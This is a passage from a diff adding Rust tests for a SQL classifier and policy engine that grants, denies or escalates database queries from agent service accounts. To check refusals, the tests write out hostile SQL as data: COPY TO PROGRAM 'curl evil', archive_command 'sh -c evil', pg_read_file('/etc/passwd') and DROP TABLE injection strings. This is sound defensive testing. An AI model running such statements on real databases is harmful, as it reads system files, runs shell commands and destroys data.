+    assert!(matches!(
+        classify("ALTER SYSTEM SET archive_command = 'sh -c evil'"),
+        Err(ClassifyError::Refused(_))
+    ));
+    assert!(matches!(
+        classify("SELECT 1; LOAD 'x'"),
+        Err(ClassifyError::Refused(_))
+    ));
+}
+
+#[test]
+fn garbage_fails_closed() {
+    for sql in [
+        "DROP TABEL orders",
+        "SELECT FROM WHERE",
+        "'unterminated",
+        "SELECT $$unterminated",
+        "SELECT 1; garbage here",
+        "\u{0}",
+        "SELECT '\u{0}'",
+        "/* unterminated comment",
+        "💥",
+    ] {
+        let r = classify(sql);
+        assert!(matches!(r, Err(ClassifyError::Parse(_))), "{sql:?}: {r:?}");
+        let refusal = r.err().map(|e| refusal_for_error(&e));
+        assert!(refusal.is_some_and(|r| r.sqlstate == "42601"));
+    }
+}
+
+#[test]
+fn statements_nested_too_deeply_fail_closed() {
+    let chain = format!("SELECT 1{}", " + 1".repeat(60));
+    assert!(matches!(classify(&chain), Err(ClassifyError::Unsupported(_))));
+    let subqueries = format!("SELECT {}1{}", "(SELECT ".repeat(60), ")".repeat(60));
+    assert!(classify(&subqueries).is_err());
+    let deep = format!("SELECT {}1{}", "(".repeat(20_000), ")".repeat(20_000));
+    assert!(classify(&deep).is_err());
+    // Parentheses alone add no level.
+    let parens = format!("SELECT {}1{}", "(".repeat(500), ")".repeat(500));
+    assert!(classify(&parens).is_ok());
+    let chain = format!("SELECT 1{}", " + 1".repeat(40));
+    assert!(classify(&chain).is_ok());
+}
+
+#[test]
+fn empty_queries_run_nothing_and_are_allowed() {
+    for sql in ["", "   ", ";", "-- ping", "/* */ ;;"] {
+        let c = classified(sql);
+        assert!(c.statements.is_empty(), "{sql:?}");
+        assert!(decide(&design_policies(), &planner(), &c).is_allow());
+    }
+}
+
+// ------------------------------------------------------------------- rules
+
+#[test]
+fn default_deny_names_what_would_allow_it() {
+    let d = decision("DELETE FROM public.items");
+    let Decision::Deny { policy, rule, hint } = d else {
+        panic!("should deny: {d:?}")
+    };
+    assert!(policy.is_empty());
+    assert_eq!(rule, DEFAULT_DENY);
+    assert_eq!(
+        hint,
+        "no rule allows delete on public.items for system:serviceaccount:agents:planner; add a Policy rule with action allow (or requireApproval) that matches it"
+    );
+    let r = refusal(&decision("DELETE FROM public.items"));
+    assert!(r.is_some_and(|r| r.sqlstate == "42501" && r.message.contains(DEFAULT_DENY)));
+
+    // A caller no Policy names.
+    let stranger = Identity {
+        username: "mallory".into(),
+        groups: vec![],
+    };
+    let d = decide(&design_policies(), &stranger, &classified("SELECT 1"));
+    assert!(
+        matches!(&d, Decision::Deny { hint, .. } if hint.contains("no Policy for this connection names mallory"))
+    );
+}
+
+#[test]
+fn most_restrictive_action_wins() {
+    // The reads rule allows select; no-ddl denies ddl: a mixed query is denied
+    // and names the deny rule.
+    let d = decision("SELECT 1; CREATE TABLE x (a int)");
+    assert!(
+        matches!(&d, Decision::Deny { policy, rule, .. } if policy == "agents-readonly" && rule == "no-ddl")
+    );
+    let r = refusal(&d);
+    assert!(r.is_some_and(|r| {
+        r.sqlstate == "42501"
+            && r.message == "permission denied by Gatehouse Policy \"agents-readonly\", rule \"no-ddl\""
+            && r.hint
+                .contains("rule no-ddl of Policy agents-readonly denies ddl")
+    }));
+
+    // requireApproval over allow.
+    let d = decision("SELECT 1; DELETE FROM public.orders WHERE id = 42");
+    assert!(
+        matches!(&d, Decision::RequireApproval { rule, approvers, .. } if rule == "writes-need-approval" && approvers.groups == vec!["dba".to_owned()])
+    );
+    assert!(refusal(&d).is_some_and(|r| r.sqlstate == "42501" && r.hint.contains("dba")));
+
+    // deny over requireApproval, whatever the order.
+    assert_denied("DELETE FROM public.orders; TRUNCATE public.orders");
+    assert_denied("TRUNCATE public.orders; DELETE FROM public.orders");
+
+    // A deny rule of a second Policy wins over an allow of the first.
+    let mut policies = design_policies();
+    policies.push(policy(
+        "no-secrets",
+        json!({"connectionSelector": {}, "subjects": [{"kind": "Group", "name": "system:serviceaccounts"}],
+               "rules": [{"name": "secret-schema", "match": {"tables": ["secret.*"]}, "action": "deny"}]}),
+    ));
+    let d = decide(
+        &policies,
+        &planner(),
+        &classified("SELECT * FROM public.orders JOIN secret.keys USING (id)"),
+    );
+    assert!(
+        matches!(&d, Decision::Deny { policy, rule, .. } if policy == "no-secrets" && rule == "secret-schema")
+    );
+    assert!(decide(&policies, &planner(), &classified("SELECT * FROM public.orders")).is_allow());
+}
+
+#[test]
+fn allow_rules_must_cover_every_access() {
+    let policies = vec![policy(
+        "orders-only",
+        json!({"connectionSelector": {}, "subjects": [{"kind": "User", "name": "alice"}],
+               "rules": [{"name": "read-orders", "match": {"operations": ["select"], "tables": ["public.orders"]}, "action": "allow"}]}),
+    )];
+    let alice = Identity {
+        username: "alice".into(),
+        groups: vec![],
+    };
+    let d = |sql: &str| decide(&policies, &alice, &classified(sql));
+    assert!(d("SELECT * FROM public.orders").is_allow());
+    // The join also reads secret.keys, which no rule allows.
+    assert!(
+        matches!(d("SELECT * FROM public.orders, secret.keys"), Decision::Deny { hint, .. } if hint.contains("select on secret.keys"))
+    );
+    // A table-less select is not covered by a rule that names tables.
+    assert!(!d("SELECT 1").is_allow());
+    // The writable CTE's delete is not covered by a select rule.
+    assert!(!d("WITH d AS (DELETE FROM public.orders RETURNING *) SELECT * FROM public.orders").is_allow());
+}
+
+#[test]
+fn unqualified_tables_match_any_schema() {
+    // Deny rules catch an unqualified name whatever schema it reaches.
+    let policies = vec![policy(
+        "p",
+        json!({"connectionSelector": {}, "subjects": [{"kind": "User", "name": "alice"}],
+        "rules": [
+            {"name": "reads", "match": {"operations": ["select"]}, "action": "allow"},
+            {"name": "no-keys", "match": {"tables": ["secret.keys"]}, "action": "deny"}
+        ]}),
+    )];
+    let alice = Identity {
+        username: "alice".into(),
+        groups: vec![],
+    };
+    let d = |sql: &str| decide(&policies, &alice, &classified(sql));
+    assert!(matches!(d("SELECT * FROM keys"), Decision::Deny { rule, .. } if rule == "no-keys"));
+    assert!(matches!(d("SELECT * FROM secret.keys"), Decision::Deny { .. }));
+    assert!(d("SELECT * FROM public.keys").is_allow());
+    assert!(d("SELECT * FROM other").is_allow());
+
+    // Glob patterns.
+    let policies = vec![policy(
+        "g",
+        json!({"connectionSelector": {}, "subjects": [{"kind": "Group", "name": "sre"}],
+               "rules": [{"name": "r", "match": {"operations": ["select"], "tables": ["pub*.ord*s", "*.audit_*"]}, "action": "allow"}]}),
+    )];
+    let sre = Identity {
+        username: "bob".into(),
+        groups: vec!["sre".into()],
+    };
+    let d = |sql: &str| decide(&policies, &sre, &classified(sql));
+    assert!(d("SELECT * FROM public.orders").is_allow());
+    assert!(d("SELECT * FROM publications.ords").is_allow());
+    assert!(d("SELECT * FROM orders").is_allow());
+    assert!(d("SELECT * FROM x.audit_log").is_allow());
+    assert!(!d("SELECT * FROM public.order").is_allow());
+    assert!(!d("SELECT * FROM private.orders").is_allow());
+}
+
+#[test]
+fn subjects_match_by_username_or_group() {
+    let p = policy(
+        "s",
+        json!({"connectionSelector": {}, "subjects": [
+            {"kind": "ServiceAccount", "name": "planner", "namespace": "agents"},
+            {"kind": "User", "name": "alice"},
+            {"kind": "Group", "name": "sre"}],
+            "rules": [{"name": "all", "action": "allow"}]}),
+    );
+    assert!(p.applies_to(&planner()));
+    assert!(p.applies_to(&Identity {
+        username: "alice".into(),
+        groups: vec![]
+    }));
+    assert!(p.applies_to(&Identity {
+        username: "bob".into(),
+        groups: vec!["sre".into()]
+    }));
+    assert!(!p.applies_to(&Identity {
+        username: "system:serviceaccount:other:planner".into(),
+        groups: vec![]
+    }));
+    assert!(!p.applies_to(&Identity {
+        username: "planner".into(),
+        groups: vec!["agents".into()]
+    }));
+}
+
+#[test]
+fn malformed_policies_do_not_compile() {
+    let spec = |rules: serde_json::Value, subjects: serde_json::Value| -> PolicySpec {
+        serde_json::from_value(json!({"connectionSelector": {}, "subjects": subjects, "rules": rules}))
+            .unwrap_or_else(|e| panic!("{e}"))
+    };
+    let user = json!([{"kind": "User", "name": "a"}]);
+    let bad_table = spec(
+        json!([{"name": "r", "match": {"tables": ["orders"]}, "action": "allow"}]),
+        user.clone(),
+    );
+    assert!(matches!(
+        CompiledPolicy::compile("p", &bad_table),
+        Err(CompileError::BadTablePattern { .. })
+    ));
+    let no_approvers = spec(json!([{"name": "r", "action": "requireApproval"}]), user);
+    assert!(matches!(
+        CompiledPolicy::compile("p", &no_approvers),
+        Err(CompileError::MissingApprovers { .. })
+    ));
+    let no_ns = spec(
+        json!([{"name": "r", "action": "allow"}]),
+        json!([{"kind": "ServiceAccount", "name": "x"}]),
+    );
+    assert!(matches!(
+        CompiledPolicy::compile("p", &no_ns),
+        Err(CompileError::MissingNamespace { .. })
+    ));
+}
+
+#[test]
+fn side_effect_hints_name_the_function() {
+    let d = decision("SELECT pg_read_file('/etc/passwd')");
+    assert!(
+        matches!(&d, Decision::Deny { hint, .. } if hint.contains("sideEffectFunction (pg_read_file)")),
+        "{d:?}"
+    );
+}
+
+// -------------------------------------------------------------- the cache
+
+#[test]
+fn cache_keys_ignore_constants_and_comments_only() {
+    let key = |s: &str| cache_key(s).unwrap_or_else(|| panic!("{s:?} should scan"));
+    let same = [
+        (
+            "SELECT * FROM t WHERE id = 1",
+            "SELECT * FROM t WHERE id = 2147483647",
+        ),
+        (
+            "SELECT * FROM t WHERE id = 1",
+            "SELECT * FROM t WHERE id = 0x7fff_ffff",
+        ),
+        ("SELECT 1.5", "SELECT 99999999999"),
+        (
+            "SELECT * FROM t WHERE a = 'x'",
+            "SELECT * FROM t WHERE a = $q$ ; DROP TABLE t; $q$",
+        ),
+        (
+            "SELECT * FROM t WHERE a = 'x'",
+            "SELECT * FROM t WHERE a = 'DROP TABLE t; --'",
+        ),
+        ("SELECT 'a' /* one */", "SELECT 'b' -- two"),
+        ("SELECT * FROM t", "SELECT\n*\tFROM   t"),
+        ("SELECT E'x'", "SELECT E'\\'; DELETE FROM t; --'"),
+        ("SET ROLE 'x'", "SET ROLE 'postgres'"),
+        ("COPY t FROM 'a'", "COPY t FROM '/etc/passwd'"),
+        ("SELECT 1.5", "SELECT 1e10"),
+    ];
+    for (a, b) in same {
+        assert_eq!(key(a), key(b), "{a:?} / {b:?}");
+    }
+    let different = [
+        ("SELECT * FROM t WHERE id = 1", "SELECT * FROM u WHERE id = 1"),
+        ("COPY t FROM 'file'", "COPY t FROM STDIN"),
+        ("COPY t TO STDOUT", "COPY t TO PROGRAM 'x'"),
+        ("SELECT 1", "SELECT '1'"),
+        ("SELECT 1", "SELECT 1.0"),
+        ("SELECT 'a'", "SELECT \"a\""),
+        ("SET ROLE 'x'", "SET ROLE x"),
+        ("SELECT $1", "SELECT 1"),
+        ("EXPLAIN DELETE FROM t", "EXPLAIN ANALYZE DELETE FROM t"),
+        ("SELECT 1; SELECT 2", "SELECT 1, 2"),
+    ];
+    for (a, b) in different {
+        assert_ne!(key(a), key(b), "{a:?} / {b:?}");
+    }
+    assert_eq!(cache_key("'unterminated"), None);
+}
+
+#[test]
+fn tricky_texts_sharing_a_key_classify_alike() {
+    let groups: &[&[&str]] = &[
+        &[
+            "SELECT * FROM orders WHERE note = 'x'",
+            "SELECT * FROM orders WHERE note = 'DELETE FROM orders; DROP TABLE orders'",
+            "SELECT * FROM orders WHERE note = '; -- /* */'",
+            "SELECT * FROM orders WHERE note = $$ '; DELETE FROM x; $$",
+            "SELECT * FROM orders WHERE note = $a$ $$ $b$ $a$",
+            "SELECT * FROM orders WHERE note = E'\\'; DROP TABLE orders; --'",
+            "SELECT * FROM orders /* DROP TABLE x */ WHERE note = 'y' -- DELETE",
+        ],
+        &[
+            "SELECT * FROM orders WHERE note = U&'x'",
+            "SELECT * FROM orders WHERE note = U&'\\0027; DROP'",
+        ],
+        &[
+            "COPY orders TO PROGRAM 'true'",
+            "COPY orders TO PROGRAM ''",
+            "COPY orders TO PROGRAM 'curl evil'",
+        ],
+        &["SET ROLE 'x'", "SET ROLE 'none'", "SET ROLE 'postgres'"],
+        &["DO 'BEGIN NULL; END'", "DO $$ BEGIN DELETE FROM orders; END $$"],
+        &["SELECT pg_read_file('a')", "SELECT pg_read_file($$/etc/passwd$$)"],
+        &["SELECT 1 LIMIT 1", "SELECT 99 LIMIT 2147483647"],
+        &["SELECT B'1', X'FF'", "SELECT B'000', X'00'"],
+    ];
+    for group in groups {
+        let first = classified(group[0]);
+        assert!(!first.constant_sensitive());
+        for sql in *group {
+            assert_eq!(cache_key(sql), cache_key(group[0]), "{sql:?}");
+            assert_eq!(classified(sql), first, "{sql:?}");
+        }
+    }
+    // COPY to a file and COPY from STDIN have different keys; COPY to or from
+    // a file or STDIN has a class that depends on a constant (the tree cannot
+    // tell `FROM STDIN` from `FROM ''`), so it is never cached.
+    assert_ne!(
+        cache_key("COPY orders FROM 'x'"),
+        cache_key("COPY orders FROM STDIN")
+    );
+    assert_ne!(
+        classified("COPY orders FROM 'x'"),
+        classified("COPY orders FROM STDIN")
+    );
+    for sql in [
+        "COPY orders FROM 'x'",
+        "COPY orders FROM ''",
+        "COPY orders FROM STDIN",
+        "COPY orders TO STDOUT",
+    ] {
+        assert!(classified(sql).constant_sensitive(), "{sql}");
+    }
+    let cache = ClassificationCache::default();
+    assert!(
+        cache
+            .classify("COPY orders FROM ''")
+            .is_ok_and(|c| c.operations() == vec![CopyFrom])
+    );
+    assert!(
+        cache
+            .classify("COPY orders FROM '/etc/passwd'")
+            .is_ok_and(|c| c.operations() == vec![CopyProgram])
+    );
+    assert_eq!(cache.stats().hits, 0);
+}
+
+#[test]
+fn cache_counts_hits_and_misses_and_never_shares_constant_sensitive_texts() {
+    let cache = ClassificationCache::default();
+    let a = cache.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1");
+    let b = cache.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 2");
+    assert!(matches!((&a, &b), (Ok(a), Ok(b)) if Arc::ptr_eq(a, b)));
+    assert_eq!(cache.stats().hits, 1);
+    assert_eq!(cache.stats().misses, 1);
+    assert_eq!(cache.stats().entries, 1);
+
+    // The constant decides; the classification is not cached.
+    assert!(cache.classify("SET standard_conforming_strings = 'on'").is_ok());
+    assert!(cache.classify("SET standard_conforming_strings = 'off'").is_err());
+    assert!(
+        cache
+            .classify("EXPLAIN (ANALYZE 'off') DELETE FROM t")
+            .is_ok_and(|c| c.operations() == vec![Explain])
+    );
+    assert!(
+        cache
+            .classify("EXPLAIN (ANALYZE 'on') DELETE FROM t")
+            .is_ok_and(|c| c.operations() == vec![Delete])
+    );
+    assert_eq!(cache.stats().entries, 1);
+
+    // Errors are not cached.
+    assert!(cache.classify("SELEC 1").is_err());
+    assert!(cache.classify("SELEC 1").is_err());
+    assert_eq!(cache.stats().hits, 1);
+}
+
+#[test]
+fn the_cache_stays_bounded() {
+    let cache = ClassificationCache::new(64 * 1024);
+    for i in 0..2000 {
+        assert!(
+            cache
+                .classify(&format!("SELECT * FROM table_{i} WHERE id = {i}"))
+                .is_ok()
+        );
+    }
+    assert!(cache.stats().bytes <= 64 * 1024, "{:?}", cache.stats());
+    // A text longer than the cache's key limit is classified, not cached.
+    let long = format!("SELECT {}", vec!["a"; 5000].join(", "));
+    assert!(cache.classify(&long).is_ok());
+    assert!(cache.classify(&long).is_ok());
+}
+
+// ---------------------------------------------------------- generated walk
+
+/// The generated walk reaches every table reference and function call that
+/// the protobuf tree holds: counted once through the walk, once through
+/// serde (which pg_query derives for every message, so no field is missed).
+#[test]
+fn the_walk_reaches_every_node() {
+    fn count_json(v: &serde_json::Value, key_a: &str, key_b: &str) -> usize {
+        match v {
+            serde_json::Value::Object(m) => {
+                usize::from(m.contains_key(key_a) && m.contains_key(key_b))
+                    + m.values().map(|x| count_json(x, key_a, key_b)).sum::<usize>()
+            }
+            serde_json::Value::Array(a) => a.iter().map(|x| count_json(x, key_a, key_b)).sum(),
+            _ => 0,
+        }
+    }
+    fn count_walk(node: pg_query::NodeRef<'_>, rv: &mut usize, fc: &mut usize) {
+        match node {
+            pg_query::NodeRef::RangeVar(_) => *rv += 1,
+            pg_query::NodeRef::FuncCall(_) => *fc += 1,
+            _ => {}
+        }
+        walk::for_each_child(node, &mut |_, child| count_walk(child, rv, fc));
+    }
+    let corpus = [
+        "SELECT a.x, f(b.y) FROM a JOIN b ON g(a.id) = b.id WHERE EXISTS (SELECT h() FROM c) ORDER BY i(1) LIMIT j()",
+        "WITH x AS (DELETE FROM d RETURNING k()) INSERT INTO e SELECT * FROM x, LATERAL l(x.a) ON CONFLICT (id) DO UPDATE SET v = m()",
+        "MERGE INTO t USING s ON n(t.id) = s.id WHEN MATCHED AND o() THEN UPDATE SET a = p() WHEN NOT MATCHED THEN INSERT VALUES (q()) RETURNING r()",
+        "CREATE TABLE z (a int DEFAULT s1() CHECK (a > s2()) REFERENCES y (id), LIKE w) PARTITION BY RANGE (s3(a))",
+        "SELECT json_object('k': f1()), xmlelement(name x, f2()), JSON_VALUE(f3(), '$' DEFAULT f4() ON ERROR) FROM JSON_TABLE(f5(), '$' COLUMNS (a int PATH '$.a' DEFAULT f6() ON EMPTY)) jt",
+        "SELECT * FROM XMLTABLE('/r' PASSING f7() COLUMNS a int PATH f8() DEFAULT f9()) x, ROWS FROM (g1(), g2()) r, t0 TABLESAMPLE bernoulli (g3()) REPEATABLE (g4())",
+        "SELECT count(*) FILTER (WHERE g5()) OVER w, array_agg(x ORDER BY g6()) FROM t1 WINDOW w AS (PARTITION BY g7() ORDER BY g8() ROWS BETWEEN g9() PRECEDING AND CURRENT ROW)",
+        "COPY (SELECT h1() FROM t2) TO STDOUT; COPY t3 FROM STDIN WHERE h2() > 0; CALL h3(h4()); EXECUTE p(h5())",
+        "CREATE VIEW v AS SELECT h6() FROM t4; CREATE RULE r AS ON INSERT TO t5 DO ALSO DELETE FROM t6 WHERE h7(); CREATE TRIGGER tr BEFORE INSERT ON t7 FOR EACH ROW WHEN (h8()) EXECUTE FUNCTION h9()",
+        "CREATE FUNCTION fn() RETURNS int BEGIN ATOMIC SELECT i1() FROM t8; INSERT INTO t9 VALUES (i2()); END; CREATE INDEX ON t10 ((i3(a))) WHERE i4(b)",
+        "UPDATE t11 SET (a, b) = (SELECT i5(), i6() FROM t12) FROM t13 WHERE t11.id = t13.id RETURNING i7(); DELETE FROM t14 USING t15 WHERE i8() RETURNING OLD.*, i9()",
+        "SELECT CASE WHEN j1() THEN j2() ELSE j3() END, COALESCE(j4(), j5()), ARRAY[j6()], ROW(j7()), j8()::int, j9() COLLATE \"C\", GROUPING(a) FROM t16 GROUP BY CUBE (k1(), k2()) HAVING k3()",
+        "WITH RECURSIVE r(n) AS (SELECT k4() UNION ALL SELECT n + k5() FROM r WHERE n < k6()) SEARCH DEPTH FIRST BY n SET ord CYCLE n SET is_cycle USING path SELECT * FROM r, t17",
+        "ALTER TABLE t18 ADD COLUMN c int DEFAULT k7(), ALTER COLUMN d SET DEFAULT k8(), ADD CONSTRAINT x CHECK (k9() > 0); GRANT SELECT ON t19, t20 TO bob; VACUUM t21, t22; LOCK t23",
+    ];
+    for sql in corpus {
+        let parsed = match pg_query::parse(sql, pg_query::ParserOptions::DEFAULT) {
+            Ok(p) => p.protobuf,
+            Err(e) => panic!("{sql}: {e}"),
+        };
+        let json = serde_json::to_value(&parsed).unwrap_or_default();
+        let (mut rv, mut fc) = (0, 0);
+        for stmt in &parsed.stmts {
+            if let Some(n) = stmt.stmt.as_deref().and_then(|n| n.node.as_ref()) {
+                count_walk(n.to_ref(), &mut rv, &mut fc);
+            }
+        }
+        assert!(rv + fc > 0, "{sql}");
+        assert_eq!(
+            rv,
+            count_json(&json, "relname", "relpersistence"),
+            "RangeVars in {sql}"
+        );
+        assert_eq!(
+            fc,
+            count_json(&json, "funcname", "agg_star"),
+            "FuncCalls in {sql}"
+        );
+    }
+}
+
+// --------------------------------------------------------------- proptests
+
+mod properties {
+    use proptest::prelude::*;
+
+    use super::super::{ClassificationCache, cache_key, classify};
+
+    /// The scanner's constant token kinds, and the literal forms of each.
+    #[derive(Debug, Clone, Copy)]
+    enum Lit {
+        /// SCONST: '', E'', dollar-quoted, and '' continued on a new line.
+        Str,
+        /// USCONST: U&''.
+        UStr,
+        /// ICONST: decimal, hex, octal and binary integers that fit in 32 bits.
+        Int,
+        /// FCONST: decimals, exponents and integers too large for 32 bits.
+        Float,
+        /// BCONST: B''.
+        Bit,
+        /// XCONST: X''.
+        Hex,
+    }
+
+    fn lit_kind() -> impl Strategy<Value = Lit> {
+        prop_oneof![
+            Just(Lit::Str),
+            Just(Lit::UStr),
+            Just(Lit::Int),
+            Just(Lit::Float),
+            Just(Lit::Bit),
+            Just(Lit::Hex)
+        ]
+    }
+
+    /// String contents chosen to look like SQL.
+    fn content() -> impl Strategy<Value = String> {
+        prop::collection::vec(
+            prop_oneof![
+                Just("DROP TABLE orders".to_owned()),
+                Just("; DELETE FROM orders; --".to_owned()),
+                Just("/* */".to_owned()),
+                Just("$$".to_owned()),
+                Just("$a$".to_owned()),
+                Just("'".to_owned()),
+                Just("\\".to_owned()),
+                Just("\"".to_owned()),
+                Just("\n".to_owned()),
+                Just("pg_read_file('x')".to_owned()),
+                "[a-zA-Z0-9 ;(),.*=<>-]{0,12}",
+                any::<char>()
+                    .prop_filter("no NUL", |c| *c != '\0')
+                    .prop_map(|c| c.to_string()),
+            ],
+            0..6,
+        )
+        .prop_map(|parts| parts.concat())
+    }
+
+    /// A literal of token kind `kind`, as SQL source text.
+    fn literal_of(kind: Lit) -> BoxedStrategy<String> {
+        match kind {
+            Lit::Str => prop_oneof![
+                content().prop_map(|s| format!("'{}'", s.replace('\'', "''"))),
+                content().prop_map(|s| format!("E'{}'", s.replace('\\', "\\\\").replace('\'', "\\'"))),
+                (content(), "[a-z_]{0,4}").prop_map(|(s, tag)| {
+                    let quote = format!("${tag}$");
+                    format!("{quote}{}{quote}", s.replace('$', ""))
+                }),
+                content().prop_map(|s| format!("'a'\n'{}'", s.replace('\'', "''"))),
+            ]
+            .boxed(),
+            Lit::UStr => content()
+                .prop_map(|s| format!("U&'{}'", s.replace('\\', "\\\\").replace('\'', "''")))
+                .boxed(),
+            Lit::Int => prop_oneof![
+                (0..=i32::MAX).prop_map(|n| n.to_string()),
+                (0..=i32::MAX).prop_map(|n| format!("0x{n:x}")),
+                (0..=i32::MAX).prop_map(|n| format!("0o{n:o}")),
+                (0..=i32::MAX).prop_map(|n| format!("0b{n:b}")),
+            ]
+            .boxed(),
+            Lit::Float => prop_oneof![
+                (any::<u32>(), any::<u32>()).prop_map(|(a, b)| format!("{a}.{b}")),
+                (any::<u16>(), -300i32..300).prop_map(|(a, e)| format!("{a}e{e}")),
+                (i64::from(i32::MAX) + 1..=i64::MAX).prop_map(|n| n.to_string()),
+                any::<u32>().prop_map(|n| format!(".{n}")),
+            ]
+            .boxed(),
+            Lit::Bit => "[01]{0,16}".prop_map(|b| format!("B'{b}'")).boxed(),
+            Lit::Hex => "[0-9a-fA-F]{0,16}".prop_map(|x| format!("X'{x}'")).boxed(),
+        }
+    }
+
+    /// Two literals of the same, arbitrary kind.
+    fn literal_pair() -> impl Strategy<Value = (String, String)> {
+        lit_kind().prop_flat_map(|k| (literal_of(k), literal_of(k)))
+    }
+
+    /// Two string literals, SCONST or USCONST alike.
+    fn string_pair() -> impl Strategy<Value = (String, String)> {
+        prop_oneof![Just(Lit::Str), Just(Lit::UStr)].prop_flat_map(|k| (literal_of(k), literal_of(k)))
+    }
+
+    /// Any literal.
+    fn literal() -> impl Strategy<Value = String> {
+        lit_kind().prop_flat_map(literal_of)
+    }
+
+    /// Templates with `{}` where any constant may stand.
+    const TEMPLATES: &[&str] = &[
+        "SELECT * FROM orders WHERE id = {} AND note <> {}",
+        "SELECT {}, {} FROM public.orders o JOIN items i ON o.id = i.id",
+        "INSERT INTO orders (a, b) VALUES ({}, {}) RETURNING *",
+        "UPDATE orders SET a = {} WHERE b = {}",
+        "DELETE FROM orders WHERE a = {} OR a = {}",
+        "SELECT {} ; DELETE FROM orders WHERE a = {}",
+        "WITH d AS (DELETE FROM orders WHERE a = {} RETURNING *) SELECT {} FROM d",
+        "SELECT pg_read_file({}) /* {} is not here */, {}",
+        "SELECT length({}) FROM orders ORDER BY {} FOR UPDATE",
+        "PREPARE p AS SELECT * FROM orders WHERE a = {} AND b = {}",
+        "EXPLAIN SELECT {} FROM orders WHERE a IN ({}, {})",
+        "EXPLAIN ANALYZE UPDATE orders SET a = {} WHERE b = {}",
+        "CALL proc({}, {})",
+        "CREATE TABLE t (a text DEFAULT {}, b int CHECK (b > {}))",
+        "SELECT CASE WHEN a = {} THEN {} ELSE {} END FROM orders",
+        "SELECT * FROM orders WHERE note LIKE {} ESCAPE {}",
+        "COPY (SELECT {}, {} FROM orders) TO STDOUT",
+        "SELECT set_config({}, {}, false)",
+    ];
+
+    /// Templates whose slots take strings only (the grammar wants one).
+    const STRING_TEMPLATES: &[&str] = &[
+        "COPY orders FROM {}",
+        "COPY orders TO {}",
+        "SET ROLE {}",
+        "SET search_path = {}",
+        "SET standard_conforming_strings = {}",
+        "SET client_encoding = {}",
+        "DO {}",
+        "NOTIFY ch, {}",
+        "EXPLAIN (ANALYZE {}) DELETE FROM orders",
+        "SET SESSION AUTHORIZATION {}",
+    ];
+
+    fn render(template: &str, values: &[String]) -> String {
+        let mut out = String::new();
+        let mut rest = template;
+        let mut i = 0;
+        while let Some(pos) = rest.find("{}") {
+            out.push_str(&rest[..pos]);
+            out.push_str(values.get(i).map(String::as_str).unwrap_or("1"));
+            i += 1;
+            rest = &rest[pos + 2..];
+        }
+        out.push_str(rest);
+        out
+    }
+
+    /// Two texts whose keys are equal classify alike, directly and through
+    /// the cache, unless their key's construct is constant-sensitive (then
+    /// both are, and neither is cached).
+    fn assert_alike(a: &str, b: &str) -> Result<(), TestCaseError> {
+        let (ca, cb) = (classify(a), classify(b));
+        match (&ca, &cb) {
+            (Ok(x), Ok(y)) if !x.constant_sensitive() => prop_assert_eq!(x, y, "{:?} / {:?}", a, b),
+            (Ok(x), Ok(y)) => prop_assert!(y.constant_sensitive() && x.constant_sensitive()),
+            // Only a constant-sensitive construct may turn on a value (e.g.
+            // SET standard_conforming_strings = 'off' is refused).
+            (Err(_), Ok(y)) => prop_assert!(y.constant_sensitive(), "{a:?} failed, {b:?} did not"),
+            (Ok(x), Err(_)) => prop_assert!(x.constant_sensitive(), "{b:?} failed, {a:?} did not"),
+            (Err(_), Err(_)) => {}
+        }
+        // Through the cache, the second text gets what it would get alone.
+        let cache = ClassificationCache::default();
+        let _ = cache.classify(a);
+        let via_cache = cache.classify(b).map(|c| (*c).clone());
+        prop_assert_eq!(via_cache, cb);
+        Ok(())
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
+
+        /// Same template, constants of the same kinds: the keys are equal,
+        /// and the classifications too.
+        #[test]
+        fn texts_sharing_a_key_classify_alike(
+            t in 0..TEMPLATES.len(),
+            pairs in prop::collection::vec(literal_pair(), 3),
+        ) {
+            let a: Vec<String> = pairs.iter().map(|p| p.0.clone()).collect();
+            let b: Vec<String> = pairs.iter().map(|p| p.1.clone()).collect();
+            let (a, b) = (render(TEMPLATES[t], &a), render(TEMPLATES[t], &b));
+            let key = cache_key(&a);
+            prop_assert!(key.is_some(), "{a:?} should scan");
+            prop_assert_eq!(&key, &cache_key(&b), "keys of {:?} and {:?}", a, b);
+            assert_alike(&a, &b)?;
+        }
+
+        #[test]
+        fn string_slots_sharing_a_key_classify_alike(t in 0..STRING_TEMPLATES.len(), (a, b) in string_pair()) {
+            let (a, b) = (render(STRING_TEMPLATES[t], &[a]), render(STRING_TEMPLATES[t], &[b]));
+            prop_assert_eq!(cache_key(&a), cache_key(&b), "keys of {:?} and {:?}", a, b);
+            assert_alike(&a, &b)?;
+        }
+
+        /// Constants of any kinds: whenever the keys happen to be equal, the
+        /// classifications are.
+        #[test]
+        fn equal_keys_mean_equal_classes(
+            t in 0..TEMPLATES.len(),
+            a in prop::collection::vec(literal(), 3),
+            b in prop::collection::vec(literal(), 3),
+        ) {
+            let (a, b) = (render(TEMPLATES[t], &a), render(TEMPLATES[t], &b));
+            if cache_key(&a).is_some() && cache_key(&a) == cache_key(&b) {
+                assert_alike(&a, &b)?;
+            }
+        }
+
+        #[test]
+        fn arbitrary_text_never_panics(sql in any::<String>()) {
+            let _ = classify(&sql);
+            let _ = cache_key(&sql);
+        }
+
+        #[test]
+        fn sql_like_token_soup_never_panics(parts in prop::collection::vec(prop_oneof![
+            Just("SELECT"), Just("FROM"), Just("WHERE"), Just("WITH"), Just("AS"), Just("("), Just(")"),
+            Just(","), Just(";"), Just("DELETE"), Just("INSERT INTO"), Just("VALUES"), Just("t"), Just("s.t"),
+            Just("f(x)"), Just("pg_read_file('a')"), Just("'lit'"), Just("$$d$$"), Just("1"), Just("="),
+            Just("EXPLAIN"), Just("ANALYZE"), Just("PREPARE p AS"), Just("EXECUTE p"), Just("FOR UPDATE"),
+            Just("COPY"), Just("TO"), Just("STDOUT"), Just("UNION"), Just("LATERAL"), Just("JOIN"), Just("ON"),
+            Just("RETURNING *"), Just("SET"), Just("ROLE"), Just("CREATE TABLE"), Just("INTO"), Just("*"),
+        ], 0..24)) {
+            let sql = parts.join(" ");
+            let _ = classify(&sql);
+            let _ = cache_key(&sql);
+        }
+    }
+}
+
+#[test]
+#[ignore = "timing probe, run by hand with --release"]
+fn timing_probe() {
+    let sql = "SELECT abalance FROM pgbench_accounts WHERE aid = 48213;";
+    let n = 20_000;
+    let t = std::time::Instant::now();
+    for _ in 0..n {
+        let _ = cache_key(sql);
+    }
